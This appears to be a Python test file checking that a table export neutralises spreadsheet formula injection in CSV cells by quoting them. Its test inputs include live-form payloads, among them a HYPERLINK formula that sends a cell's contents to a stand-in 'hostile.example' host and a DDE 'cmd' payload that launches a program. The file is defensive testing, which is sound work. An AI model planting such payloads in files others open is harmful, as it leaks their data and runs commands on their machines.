"""A table's file is data: no spreadsheet works anything out of its texts."""

import codecs
import csv
import io
import re

import pytest

from macros.parts.table.download import files


def cells(*row):
    text = files("A table", ["Name"] * len(row), [row], [])["csv"]
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://hostile.example/?"&B2,"muscle")',
        "@SUM(B2)",
        "+1+cmd|'/c calc'!A0",
        "-1+1",
        "  =1+1",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "|calc",
        "- a list",
    ],
)
def test_a_text_that_begins_like_a_formula_stays_text(text):
    assert cells(text) == [f"'{text}"]


@pytest.mark.parametrize("text", ["adults;=1+1", ";@SUM(B2)", "a; =1+1", "a;;＝1+1"])
def test_no_formula_begins_where_spreadsheets_part_cells_by_semicolons(text):
    (cell,) = cells(text)
    assert cell.replace("'", "") == text
    assert not re.search(r"(^|;) *[=@＝]", cell)


@pytest.mark.parametrize(
    "same",
    [
        "a; b",
        "adults; a = b; 3",
        "-0.03",
        "+5",
        "-1,200",
        "-3 %",
        "−0.03",
        "muscle",
        "a=b",
        "",
        "38",
    ],
)
def test_a_number_and_any_other_text_stays_as_it_is(same):
    assert cells(same) == [same]


def test_a_number_is_a_number():
    assert cells(-0.03, 13, None) == ["-0.03", "13", ""]


def test_a_heading_is_a_cell_too():
    assert files("A table", ["=1+1"], [], [])["csv"].startswith("\ufeff'=1+1")


def test_a_spreadsheet_is_told_that_the_file_is_utf_8():
    content = files("A table", ["A trainer’s rule"], [["−0.03"]], [])["csv"].encode()
    assert content.startswith(codecs.BOM_UTF8)  # or Excel reads â€™ and âˆ’
    text = io.TextIOWrapper(io.BytesIO(content), encoding="utf-8-sig", newline="")
    assert list(csv.reader(text)) == [["A trainer’s rule"], ["−0.03"]]


def test_the_file_of_a_table_in_json_begins_with_no_mark():
    assert files("A table", ["a"], [["b"]], [])["json"].startswith("{")
